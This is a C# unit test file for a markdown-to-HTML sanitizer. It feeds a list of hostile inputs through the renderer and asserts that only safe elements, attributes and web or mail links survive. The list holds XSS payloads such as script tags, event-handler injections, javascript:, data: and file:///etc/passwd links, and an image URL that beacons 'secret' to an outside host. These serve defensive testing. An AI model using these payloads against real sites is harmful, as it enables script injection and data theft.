using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using FlowStudio.Studio.Components;

namespace FlowStudio.Studio.Tests.Components;

public sealed class SafeMarkdownTests
{
    private static readonly HashSet<string> Elements =
    [
        "a", "blockquote", "br", "code", "del", "em", "h3", "h4", "h5", "h6", "hr", "input", "ins", "li", "mark", "ol", "p", "pre", "strong", "sub",
        "sup", "table", "tbody", "td", "th", "thead", "tr", "ul",
    ];

    private static readonly HashSet<string> Attributes = ["href", "title", "target", "rel", "class", "style", "start", "type", "disabled", "checked", "colspan", "rowspan"];

    public static TheoryData<string> Hostile =>
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "a <b onclick=alert(1)>b</b>",
        "<svg/onload=alert(1)>",
        "<iframe src=\"https://elsewhere.example\"></iframe>",
        "<!-- --><style>@import url(https://elsewhere.example)</style>",
        "[a](javascript:alert(1))",
        "[a](JaVaScRiPt:alert(1))",
        "[a](&#106;avascript:alert(1))",
        "[a](java\nscript:alert(1))",
        "[a](vbscript:x)",
        "[a](data:text/html,<script>alert(1)</script>)",
        "[a](file:///etc/passwd)",
        "[a](/settings)",
        "[a](//elsewhere.example)",
        "<javascript:alert(1)>",
        "![a](https://elsewhere.example/?q=secret)",
        "![a](data:image/svg+xml;base64,PHN2Zy8+)",
        "![](javascript:alert(1))",
        "[![a](https://elsewhere.example/i.png)](javascript:alert(1))",
        "[a]: javascript:alert(1)\n\n[a]",
        "![a]\n\n[a]: https://elsewhere.example/i.png",
        "# A {onclick=alert(1) #main .fs-shell}",
        "[a](https://ok.example){onclick=alert(1)}",
        "[a](https://ok.example \"x\\\" onmouseover=alert(1) \\\"\")",
        "```html\" onload=\"alert(1)\n<script>\n```",
        "`<script>alert(1)</script>`",
        "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:1) | ![y](http://elsewhere.example) |",
        "- [x] <script>alert(1)</script>",
        "https://ok.example/\"onmouseover=alert(1)",
        "<https://ok.example/\"onmouseover=alert(1)>",
        "<a@b.example\" onclick=\"alert(1)>",
    ];

    [Theory, MemberData(nameof(Hostile))]
    public void ToHtml_HostileText_HoldsOnlyElementsAndAttributesThatCannotAct(string text)
    {
        foreach (var element in Parse(text))
        {
            Assert.True(Elements.Contains(element.LocalName), $"<{element.LocalName}> came of: {text}");
            Assert.All(element.Attributes, a => Assert.True(Attributes.Contains(a.Name), $"{a.Name} came of: {text}"));
            Assert.All(element.Attributes.Where(a => a.Name == "style"), a => Assert.StartsWith("text-align", a.Value));
        }
    }

    [Theory, MemberData(nameof(Hostile))]
    public void ToHtml_HostileText_LinksOnlyToTheWebAndToMail(string text)
    {
        foreach (var link in Parse(text).Where(e => e.LocalName == "a"))
        {
            Assert.Matches("^(https?|mailto):", link.GetAttribute("href"));
            Assert.Equal("_blank", link.GetAttribute("target"));
            Assert.Contains("noopener", link.GetAttribute("rel"));
            Assert.Contains("noreferrer", link.GetAttribute("rel"));
        }
    }

    [Fact]
    public void ToHtml_Image_BecomesALinkThatSaysSo()
    {
        var link = Assert.Single(Parse("See ![the chart](https://charts.example/1.png)."), e => e.LocalName == "a");

        Assert.Equal("the chart", link.TextContent);
        Assert.Equal("See Image: the chart.", link.ParentElement!.TextContent.Trim());
    }

    [Fact]
    public void ToHtml_RefusedLink_KeepsItsText() => Assert.Equal("<p>press <strong>here</strong> now</p>", SafeMarkdown.ToHtml("press [**here**](javascript:x) now").Trim());

    [Fact]
    public void ToHtml_Headings_StandBelowThoseOfThePage() =>
        Assert.Equal(["h3", "h4", "h6"], Parse("# a\n\n## b\n\n##### c").Select(e => e.LocalName));

    [Fact]
    public void ToHtml_TablesListsAndCode_AreFormatted()
    {
        var names = Parse("| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n- y\n\n```\ncode\n```").Select(e => e.LocalName).ToList();

        Assert.Contains("table", names);
        Assert.Contains("li", names);
        Assert.Contains("pre", names);
    }

    [Theory, InlineData(null), InlineData(""), InlineData("  \n")]
    public void ToHtml_NoText_IsEmpty(string? text) => Assert.Equal("", SafeMarkdown.ToHtml(text));

    private static List<IElement> Parse(string text) =>
        [.. new HtmlParser().ParseDocument(SafeMarkdown.ToHtml(text)).Body!.QuerySelectorAll("*")];
}
